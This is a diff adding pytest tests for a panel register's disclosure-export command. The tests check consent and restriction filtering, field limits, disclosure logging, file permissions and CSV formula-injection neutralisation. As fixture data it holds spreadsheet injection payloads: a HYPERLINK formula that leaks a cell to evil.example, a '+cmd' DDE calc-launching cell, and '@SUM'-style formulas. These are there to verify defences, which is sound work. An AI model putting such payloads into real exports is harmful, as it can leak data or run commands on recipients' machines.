@@ -1,0 +1,539 @@
+"""export disclosure: exactly what policies/disclosure.yaml allows, to whom, and a log of it.
+
+Only admitted members who are not restricted, have not objected and hold the
+consent the purpose requires; only member_id and the recipient's fields.
+CSV cells a spreadsheet would run as formulas are neutralised. The file is new
+and 0600; --dry-run discloses and logs nothing. Every disclosed member gets a
+disclosure-log entry that the access export lists; the export is audited.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import re
+import shutil
+import sqlite3
+import stat
+from dataclasses import dataclass
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from typer.testing import CliRunner, Result
+
+from kss_panel import crypto, services
+from kss_panel.cli import app, neutralise
+from kss_panel.policy import load_policies
+
+ROOT = Path(__file__).resolve().parents[1]
+POLICIES_DIR = ROOT / "policies"
+NOW = datetime(2025, 6, 15, 9, 30, tzinfo=UTC)
+FAST_KDF = crypto.KdfParams(salt=b"s" * 16, memory_kib=64, iterations=1, lanes=1)
+SHIPPED = yaml.safe_load((POLICIES_DIR / "disclosure.yaml").read_text(encoding="utf-8"))["recipients"]
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+# A recipient outside the EU/EEA, appended to a copy of the shipped policy.
+OVERSEAS = """
+  survey-cloud:
+    name: Example Survey Cloud Inc.
+    role: processor
+    country: US
+{safeguard}    purposes:
+      market_research: {{consent: none}}
+    fields:
+      - contact.first_name
+      - contact.email
+"""
+# A recipient that receives postal addresses (free text), to show street cells are neutralised too.
+LETTER_SHOP = """
+  letter-shop:
+    name: Esimerkki Kirjepaino Oy
+    role: processor
+    country: FI
+    purposes:
+      communication: {consent: none}
+    fields:
+      - contact.first_name
+      - contact.street_address
+      - contact.postal_code
+      - contact.city
+"""
+
+
+@pytest.fixture(autouse=True)
+def _no_kss_panel_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    for name in list(os.environ):
+        if name.startswith("KSS_PANEL_"):
+            monkeypatch.delenv(name)
+    monkeypatch.setenv("COLUMNS", "250")
+
+
+def person(n: int, first: str, last: str, *, city: str = "Kouvola", street: str = "Kauppamiehenkatu 5", email_marketing: bool = True,
+           sms_marketing: bool = False, hobbies: list[str] | None = None) -> dict[str, Any]:
+    return {
+        "customer_number": f"{40_000_000 + n}",
+        "contact": {
+            "first_name": first, "last_name": last, "email": f"{first.lower()}.{last.lower()}@example.fi",
+            "phone": f"+3584030000{n:02d}", "street_address": street, "postal_code": "45100", "city": city, "language": "fi",
+        },
+        "demographics": {"birth_year": 1970 + n, "gender": "female"},
+        "electricity": {"heating": "district"},
+        "hobbies": hobbies or ["sauna"],
+        "consents": {"email_marketing": email_marketing, "sms_marketing": sms_marketing, "partner_disclosure": False},
+    }
+
+
+PEOPLE: dict[str, dict[str, Any]] = {
+    "anna": person(1, "Anna", "Aaltonen", email_marketing=True, sms_marketing=True, hobbies=["sauna", "fishing"]),
+    "bertta": person(2, "Bertta", "Berg", email_marketing=False),
+    "cecilia": person(3, "Cecilia", "Carlsson"),  # admitted, then restricted
+    "dora": person(4, "Dora", "Dahl"),  # admitted, then objected
+    "elsa": person(5, "Elsa", "Eskola", sms_marketing=True),  # an applicant, never admitted
+    "fanni": person(6, "Fanni", "Forsman", city=HYPERLINK, street="=1+2", hobbies=["=1+1", "sauna"]),
+    "greta": person(7, "Greta", "Grönholm", city="+cmd|' /C calc'!A0", street="+A1"),
+    "hilja": person(8, "Hilja", "Heino", city="-2+3", street="-A1"),
+    "ilona": person(9, "Ilona", "Ilves", city="@SUM(A1:A2)", street="@A1"),
+}
+ADMITTED = ["anna", "bertta", "cecilia", "dora", "fanni", "greta", "hilja", "ilona"]
+DISCLOSABLE = ["anna", "bertta", "fanni", "greta", "hilja", "ilona"]  # not restricted, not objected
+WITH_EMAIL_CONSENT = ["anna", "fanni", "greta", "hilja", "ilona"]
+
+
+@dataclass
+class Template:
+    db: Path
+    key_text: str
+    ids: dict[str, str]
+
+
+def cli(db: Path, key_file: Path, *args: str, policies: Path = POLICIES_DIR) -> Result:
+    argv = ["--db", str(db), "--policies", str(policies), *args, "--key-file", str(key_file)]
+    return CliRunner().invoke(app, argv)
+
+
+@pytest.fixture(scope="module")
+def template(tmp_path_factory: pytest.TempPathFactory) -> Template:
+    """Built once: everyone enrolled at NOW; all but elsa admitted; cecilia restricted; dora objected (through the CLI)."""
+    directory = tmp_path_factory.mktemp("disclosure-template")
+    db = directory / "register.db"
+    policies = load_policies(POLICIES_DIR)
+    key_text = crypto.new_key_file_text()
+    with services.init_register(db, policies, "aino", "correct horse battery", FAST_KDF, NOW) as session:
+        services.add_officer(session, "desk", "officer", NOW, key_secret=crypto.parse_key_file(key_text))
+        ids = {name: services.enrol(session, data, NOW) for name, data in PEOPLE.items()}
+    key_file = directory / "desk.key"
+    key_file.write_text(key_text)
+    roster = directory / "roster.csv"
+    roster.write_text("customer_number\n" + "".join(PEOPLE[name]["customer_number"] + "\n" for name in PEOPLE))
+    saved = dict(os.environ)
+    try:
+        for name in [k for k in os.environ if k.startswith("KSS_PANEL_")]:
+            del os.environ[name]
+        for name in ADMITTED:
+            result = cli(db, key_file, "admit", ids[name], "--customers", str(roster))
+            assert result.exit_code == 0, result.stderr
+        assert cli(db, key_file, "restrict", ids["cecilia"], "--reason", "accuracy-contested").exit_code == 0
+        assert cli(db, key_file, "consent", ids["dora"], "--object").exit_code == 0
+    finally:
+        os.environ.clear()
+        os.environ.update(saved)
+    return Template(db, key_text, ids)
+
+
+class Panel:
+    def __init__(self, directory: Path, template: Template) -> None:
+        self.dir = directory
+        self.db = directory / "register.db"
+        shutil.copy(template.db, self.db)
+        os.chmod(self.db, 0o600)
+        self.key_file = directory / "desk.key"
+        self.key_file.write_text(template.key_text)
+        self.ids = dict(template.ids)
+        self.names = {member_id: name for name, member_id in self.ids.items()}
+        self.policies = POLICIES_DIR
+
+    def cli(self, *args: str) -> Result:
+        return cli(self.db, self.key_file, *args, policies=self.policies)
+
+    def data(self, *args: str) -> Any:
+        result = self.cli(*args, "--json")
+        assert result.exit_code == 0, (result.stdout, result.stderr)
+        return json.loads(result.stdout)["data"]
+
+    def export(self, recipient: str, purpose: str, *more: str, out: str = "out.csv") -> tuple[Result, Path]:
+        path = self.dir / out
+        return self.cli("export", "disclosure", recipient, "--purpose", purpose, "--out", str(path), *more), path
+
+    def sql(self, statement: str) -> list[tuple[Any, ...]]:
+        conn = sqlite3.connect(self.db)
+        try:
+            return conn.execute(statement).fetchall()
+        finally:
+            conn.close()
+
+    def tables(self) -> dict[str, list[tuple[Any, ...]]]:
+        names = [r[0] for r in self.sql("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
+        return {name: self.sql(f'SELECT * FROM "{name}" ORDER BY rowid') for name in names}
+
+    def custom_policies(self, extra: str) -> Path:
+        directory = self.dir / "policies"
+        shutil.copytree(POLICIES_DIR, directory)
+        with open(directory / "disclosure.yaml", "a", encoding="utf-8") as handle:
+            handle.write(extra)
+        self.policies = directory
+        return directory
+
+
+@pytest.fixture
+def panel(tmp_path: Path, template: Template) -> Panel:
+    return Panel(tmp_path, template)
+
+
+def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
+    with open(path, encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    return rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def expected_cell(data: dict[str, Any], path: str) -> str:
+    section, _, field = path.partition(".")
+    value = data[section][field] if field else data[section]
+    return ";".join(value) if isinstance(value, list) else str(value)
+
+
+# --- who is disclosed, and what --------------------------------------------------------------------------------
+
+
+def test_panel_mailer_receives_admitted_members_not_restricted_nor_objected(panel: Panel) -> None:
+    result, out = panel.export("panel-mailer", "communication")
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout == (
+        "disclosed 6 of 8 members to panel-mailer for communication"
+        f" (excluded: 1 restricted, 1 objected, 0 without consent); wrote {out}\n"
+    )
+    header, rows = read_csv(out)
+    assert header == ["member_id", "contact.first_name", "contact.last_name", "contact.email", "contact.language"]
+    assert sorted(panel.names[row["member_id"]] for row in rows) == sorted(DISCLOSABLE)
+    for row in rows:
+        data = PEOPLE[panel.names[row["member_id"]]]
+        if panel.names[row["member_id"]] in ("anna", "bertta"):
+            assert row == {"member_id": row["member_id"], **{path: expected_cell(data, path) for path in header[1:]}}
+    text = out.read_text(encoding="utf-8")
+    for name in ("cecilia", "dora", "elsa"):
+        assert panel.ids[name] not in text
+        assert PEOPLE[name]["contact"]["first_name"] not in text
+
+
+def test_direct_marketing_requires_the_email_marketing_consent(panel: Panel) -> None:
+    result, out = panel.export("direct-marketing", "marketing", "--json")
+    assert result.exit_code == 0, result.stderr
+    data = json.loads(result.stdout)["data"]
+    assert {k: data[k] for k in ("members", "disclosed", "restricted", "objected", "no_consent", "dry_run")} == {
+        "members": 8, "disclosed": 5, "restricted": 1, "objected": 1, "no_consent": 1, "dry_run": False,
+    }
+    header, rows = read_csv(out)
+    assert header == ["member_id", *SHIPPED["direct-marketing"]["fields"]]
+    assert sorted(panel.names[row["member_id"]] for row in rows) == sorted(WITH_EMAIL_CONSENT)
+    anna = next(row for row in rows if row["member_id"] == panel.ids["anna"])
+    assert anna == {"member_id": panel.ids["anna"], **{path: expected_cell(PEOPLE["anna"], path) for path in header[1:]}}
+    assert anna["hobbies"] == "sauna;fishing" and anna["demographics.birth_year"] == "1971"
+
+
+def test_a_withdrawn_consent_takes_the_member_out_of_marketing(panel: Panel) -> None:
+    assert panel.cli("consent", panel.ids["anna"], "--withdraw", "email_marketing").exit_code == 0
+    result, out = panel.export("direct-marketing", "competitions")
+    assert result.exit_code == 0, result.stderr
+    _, rows = read_csv(out)
+    assert sorted(panel.names[row["member_id"]] for row in rows) == ["fanni", "greta", "hilja", "ilona"]
+
+
+def test_lifting_a_restriction_makes_the_member_disclosable_again(panel: Panel) -> None:
+    assert panel.cli("restrict", panel.ids["cecilia"], "--lift").exit_code == 0
+    result, out = panel.export("panel-mailer", "communication")
+    assert result.exit_code == 0, result.stderr
+    assert panel.ids["cecilia"] in {row["member_id"] for row in read_csv(out)[1]}
+
+
+@pytest.mark.parametrize(
+    ("recipient", "purpose"),
+    [(recipient, purpose) for recipient, spec in SHIPPED.items() for purpose in spec["purposes"]],
+)
+def test_the_header_is_member_id_and_exactly_the_recipients_fields(panel: Panel, recipient: str, purpose: str) -> None:
+    result, out = panel.export(recipient, purpose)
+    assert result.exit_code == 0, result.stderr
+    header, rows = read_csv(out)
+    assert header == ["member_id", *SHIPPED[recipient]["fields"]]
+    text = out.read_text(encoding="utf-8")
+    allowed = set(SHIPPED[recipient]["fields"])
+    for name, data in PEOPLE.items():
+        for path, value in (("customer_number", data["customer_number"]), ("contact.phone", data["contact"]["phone"]),
+                            ("contact.street_address", data["contact"]["street_address"]), ("contact.email", data["contact"]["email"])):
+            if path not in allowed:
+                assert value not in text, (recipient, path, name)
+    for row in rows:
+        assert panel.names[row["member_id"]] not in ("elsa", "cecilia", "dora")
+
+
+def test_sms_gateway_gets_sms_consenters_with_their_phone_kept_as_is(panel: Panel) -> None:
+    # +358401234567 starts with '+' but is a plain E.164 number: no formula, so no leading quote.
+    result, out = panel.export("sms-gateway", "marketing")
+    assert result.exit_code == 0, result.stderr
+    header, rows = read_csv(out)
+    assert header == ["member_id", "contact.first_name", "contact.phone", "contact.language"]
+    assert rows == [{"member_id": panel.ids["anna"], "contact.first_name": "Anna", "contact.phone": "+358403000001", "contact.language": "fi"}]
+
+
+def test_applicants_never_appear(panel: Panel) -> None:
+    for recipient, purpose in (("panel-mailer", "communication"), ("sms-gateway", "marketing"), ("direct-marketing", "marketing")):
+        result, out = panel.export(recipient, purpose, out=f"{recipient}.csv")
+        assert result.exit_code == 0, result.stderr
+        assert panel.ids["elsa"] not in out.read_text()
+        assert "Elsa" not in out.read_text()
+
+
+def test_a_register_of_applicants_only_gives_a_header_and_no_rows(tmp_path: Path, template: Template) -> None:
+    db = tmp_path / "applicants.db"
+    key_text = crypto.new_key_file_text()
+    with services.init_register(db, load_policies(POLICIES_DIR), "aino", "correct horse battery", FAST_KDF, NOW) as session:
+        services.add_officer(session, "desk", "officer", NOW, key_secret=crypto.parse_key_file(key_text))
+        services.enrol(session, PEOPLE["anna"], NOW)
+    key_file = tmp_path / "desk.key"
+    key_file.write_text(key_text)
+    out = tmp_path / "out.csv"
+    result = cli(db, key_file, "export", "disclosure", "panel-mailer", "--purpose", "communication", "--out", str(out))
+    assert result.exit_code == 0, result.stderr
+    assert read_csv(out) == (["member_id", *SHIPPED["panel-mailer"]["fields"]], [])
+
+
+def test_a_recipient_given_a_whole_category_never_gets_a_python_repr(panel: Panel) -> None:
+    # The policy check accepts a category name ("contact") among a recipient's fields. Either it must
+    # refuse it (exit 6) or the export must give the category's fields as proper columns: a cell
+    # holding "{'first_name': 'Anna', ...}" is no format a recipient can read, and skips neutralisation.
+    panel.custom_policies(LETTER_SHOP.replace("letter-shop", "whole-contact").replace(
+        "      - contact.first_name\n      - contact.street_address\n      - contact.postal_code\n      - contact.city\n",
+        "      - contact\n"))
+    result, out = panel.export("whole-contact", "communication")
+    assert result.exit_code in (0, 6), (result.stdout, result.stderr)
+    if result.exit_code == 0:
+        header, rows = read_csv(out)
+        assert "contact" not in header, header
+        text = out.read_text(encoding="utf-8")
+        assert "{'" not in text and "{\"" not in text
+
+
+# --- CSV injection --------------------------------------------------------------------------------------------
+
+
+def test_formula_cells_are_neutralised_in_csv(panel: Panel) -> None:
+    result, out = panel.export("direct-marketing", "marketing")
+    assert result.exit_code == 0, result.stderr
+    _, rows = read_csv(out)
+    by_name = {panel.names[row["member_id"]]: row for row in rows}
+    assert by_name["fanni"]["contact.city"] == "'" + HYPERLINK
+    assert by_name["greta"]["contact.city"] == "'+cmd|' /C calc'!A0"
+    assert by_name["hilja"]["contact.city"] == "'-2+3"
+    assert by_name["ilona"]["contact.city"] == "'@SUM(A1:A2)"
+    assert by_name["fanni"]["hobbies"] == "'=1+1;sauna"
+    assert by_name["anna"]["contact.city"] == "Kouvola"
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_street_cells_are_neutralised_too(panel: Panel) -> None:
+    panel.custom_policies(LETTER_SHOP)
+    result, out = panel.export("letter-shop", "communication")
+    assert result.exit_code == 0, result.stderr
+    header, rows = read_csv(out)
+    assert header == ["member_id", "contact.first_name", "contact.street_address", "contact.postal_code", "contact.city"]
+    streets = {panel.names[row["member_id"]]: row["contact.street_address"] for row in rows}
+    assert streets == {"anna": "Kauppamiehenkatu 5", "bertta": "Kauppamiehenkatu 5", "fanni": "'=1+2", "greta": "'+A1",
+                       "hilja": "'-A1", "ilona": "'@A1"}
+
+
+def test_json_format_keeps_values_as_they_are(panel: Panel) -> None:
+    result, out = panel.export("direct-marketing", "marketing", "--format", "json", out="out.json")
+    assert result.exit_code == 0, result.stderr
+    rows = json.loads(out.read_text(encoding="utf-8"))
+    assert isinstance(rows, list) and len(rows) == len(WITH_EMAIL_CONSENT)
+    for row in rows:
+        assert list(row) == ["member_id", *SHIPPED["direct-marketing"]["fields"]]
+    by_name = {panel.names[row["member_id"]]: row for row in rows}
+    assert by_name["fanni"]["contact.city"] == HYPERLINK  # JSON is not a spreadsheet: no quote added
+    assert by_name["anna"]["hobbies"] == ["sauna", "fishing"]
+    assert by_name["anna"]["demographics.birth_year"] == 1971
+    assert by_name["anna"]["contact.email"] == "anna.aaltonen@example.fi"
+
+
+def test_json_format_with_nobody_to_disclose_is_an_empty_array(panel: Panel) -> None:
+    panel.custom_policies(OVERSEAS.format(safeguard="    safeguard: standard-contractual-clauses\n"))
+    for name in DISCLOSABLE:
+        assert panel.cli("restrict", panel.ids[name], "--reason", "legal-claims").exit_code == 0
+    result, out = panel.export("survey-cloud", "market_research", "--format", "json", out="none.json")
+    assert result.exit_code == 0, result.stderr
+    assert json.loads(out.read_text()) == []
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+        ("+358401234567", "+358401234567"), ("+358 40 123 4567", "'+358 40 123 4567"), ("Kouvola", "Kouvola"), ("", ""),
+    ],
+)
+def test_neutralise(cell: str, expected: str) -> None:
+    assert neutralise(cell) == expected
+
+
+# --- the output file and --dry-run ----------------------------------------------------------------------------
+
+
+def test_the_output_file_is_0600(panel: Panel) -> None:
+    result, out = panel.export("panel-mailer", "communication")
+    assert result.exit_code == 0, result.stderr
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+
+
+def test_an_existing_output_file_is_never_overwritten(panel: Panel) -> None:
+    out = panel.dir / "out.csv"
+    out.write_text("the officer's other file\n")
+    before = panel.tables()
+    result, _ = panel.export("panel-mailer", "communication")
+    assert result.exit_code == 5, result.stderr
+    assert "already exists" in result.stderr and "Traceback" not in result.output
+    assert out.read_text() == "the officer's other file\n"
+    assert panel.tables() == before
+
+
+def test_dry_run_prints_counts_and_writes_and_logs_nothing(panel: Panel) -> None:
+    before = panel.tables()
+    result, out = panel.export("direct-marketing", "marketing", "--dry-run")
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout == (
+        "would disclose 5 of 8 members to direct-marketing for marketing (excluded: 1 restricted, 1 objected, 1 without consent)\n"
+    )
+    assert result.stderr == ""
+    assert not out.exists()
+    assert panel.tables() == before
+
+    result = panel.cli("export", "disclosure", "panel-mailer", "--purpose", "communication", "--dry-run", "--json")
+    assert result.exit_code == 0, result.stderr
+    data = json.loads(result.stdout)["data"]
+    assert data["dry_run"] is True and data["disclosed"] == 6 and data["members"] == 8
+    assert data["fields"] == SHIPPED["panel-mailer"]["fields"]
+    assert panel.tables() == before
+    assert not any(p.suffix == ".csv" for p in panel.dir.iterdir())
+
+
+def test_an_export_without_an_output_file_is_refused(panel: Panel) -> None:
+    before = panel.tables()
+    result = panel.cli("export", "disclosure", "panel-mailer", "--purpose", "communication")
+    assert result.exit_code == 5
+    assert "--out" in result.stderr
+    assert panel.tables() == before
+
+
+# --- refusals -------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("recipient", "purpose"),
+    [("nobody-we-know", "communication"), ("panel-mailer", "marketing"), ("sms-gateway", "communication"), ("direct-marketing", "market_research")],
+)
+def test_a_recipient_or_purpose_the_policy_does_not_allow_exits_9(panel: Panel, recipient: str, purpose: str) -> None:
+    before = panel.tables()
+    for more in ((), ("--dry-run",)):
+        result, out = panel.export(recipient, purpose, *more)
+        assert result.exit_code == 9, (result.stdout, result.stderr)
+        assert result.stderr.startswith("kss-panel: error: ")
+        assert "Traceback" not in result.output and result.stdout == ""
+        assert not out.exists()
+        assert panel.tables() == before
+
+
+def test_a_recipient_outside_the_eea_without_safeguard_is_an_invalid_policy(panel: Panel) -> None:
+    panel.custom_policies(OVERSEAS.format(safeguard=""))
+    before = panel.tables()
+    result, out = panel.export("survey-cloud", "market_research")
+    assert result.exit_code == 6, (result.stdout, result.stderr)
+    assert "disclosure.yaml" in result.stderr and "safeguard" in result.stderr
+    assert re.search(r"disclosure\.yaml:\d+", result.stderr), result.stderr
+    assert not out.exists()
+    assert panel.tables() == before
+    # Every other command refuses the invalid policy too, so no export to anyone.
+    assert panel.export("panel-mailer", "communication", out="other.csv")[0].exit_code == 6
+
+
+def test_a_recipient_outside_the_eea_with_standard_contractual_clauses_works(panel: Panel) -> None:
+    panel.custom_policies(OVERSEAS.format(safeguard="    safeguard: standard-contractual-clauses\n"))
+    result, out = panel.export("survey-cloud", "market_research")
+    assert result.exit_code == 0, result.stderr
+    header, rows = read_csv(out)
+    assert header == ["member_id", "contact.first_name", "contact.email"]
+    assert sorted(panel.names[row["member_id"]] for row in rows) == sorted(DISCLOSABLE)
+
+
+# --- the disclosure log and the audit trail -------------------------------------------------------------------
+
+
+def test_every_disclosed_member_gets_a_log_entry_that_the_access_export_lists(panel: Panel) -> None:
+    audit_before = len(panel.data("audit", "log"))
+    result, out = panel.export("direct-marketing", "marketing")
+    assert result.exit_code == 0, result.stderr
+    logged = panel.sql("SELECT member_id, recipient, purpose, fields, disclosed_on FROM disclosures ORDER BY id")
+    assert sorted(panel.names[row[0]] for row in logged) == sorted(WITH_EMAIL_CONSENT)
+    assert {(r[1], r[2], r[3]) for r in logged} == {("direct-marketing", "marketing", json.dumps(SHIPPED["direct-marketing"]["fields"]))}
+    day = logged[0][4]
+    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", day) and {r[4] for r in logged} == {day}
+
+    entries = panel.data("audit", "log")[audit_before:]
+    assert [e["action"] for e in entries] == ["export-disclosure"]
+    entry = entries[0]
+    assert entry["member_id"] is None and entry["actor"] == "desk"
+    assert entry["fields"] == SHIPPED["direct-marketing"]["fields"]
+    assert entry["detail"] == {"recipient": "direct-marketing", "purpose": "marketing", "members": 5}
+
+    anna = panel.data("export", "access", panel.ids["anna"])
+    assert [{k: d[k] for k in ("recipient", "purpose", "fields", "date")} for d in anna["disclosures"]] == [
+        {"recipient": "direct-marketing", "purpose": "marketing", "fields": SHIPPED["direct-marketing"]["fields"], "date": day}
+    ]
+    assert anna["disclosures"][0]["country"] == "FI"
+    for name in ("bertta", "cecilia", "dora", "elsa"):  # no consent, restricted, objected, applicant
+        assert panel.data("export", "access", panel.ids[name])["disclosures"] == [], name
+
+
+def test_the_log_grows_with_each_disclosure(panel: Panel) -> None:
+    assert panel.export("panel-mailer", "communication", out="a.csv")[0].exit_code == 0
+    assert panel.export("sms-gateway", "marketing", out="b.csv")[0].exit_code == 0
+    anna = panel.data("export", "access", panel.ids["anna"])
+    assert [(d["recipient"], d["purpose"]) for d in anna["disclosures"]] == [("panel-mailer", "communication"), ("sms-gateway", "marketing")]
+    assert panel.sql("SELECT count(*) FROM disclosures")[0][0] == len(DISCLOSABLE) + 1
+    bertta = panel.data("export", "access", panel.ids["bertta"])
+    assert [(d["recipient"], d["fields"]) for d in bertta["disclosures"]] == [("panel-mailer", SHIPPED["panel-mailer"]["fields"])]
+
+
+def test_the_disclosure_log_date_is_the_day_of_the_export(panel: Panel) -> None:
+    policies = load_policies(POLICIES_DIR)
+    session = services.unlock(panel.db, policies, services.Credentials(key_secret=crypto.parse_key_file(panel.key_file.read_text())))
+    with session:
+        rows: list[dict[str, Any]] = []
+        summary = services.disclosure_export(session, "panel-mailer", "communication", NOW, write_row=rows.append)
+        assert summary["disclosed"] == len(rows) == len(DISCLOSABLE)
+        assert all(list(row) == ["member_id", *SHIPPED["panel-mailer"]["fields"]] for row in rows)
+        export = services.access_export(session, panel.ids["anna"], NOW)
+    assert export["disclosures"] == [{
+        "recipient": "panel-mailer", "recipient_name": SHIPPED["panel-mailer"]["name"], "country": "FI",
+        "purpose": "communication", "fields": SHIPPED["panel-mailer"]["fields"], "date": "2025-06-15",
+    }]
+
+
+def test_no_disclosure_is_logged_when_the_export_fails(panel: Panel) -> None:
+    before = panel.tables()
+    out = panel.dir / "missing-dir" / "out.csv"
+    result = panel.cli("export", "disclosure", "panel-mailer", "--purpose", "communication", "--out", str(out))
+    assert result.exit_code == 5, (result.stdout, result.stderr)
+    assert panel.tables() == before
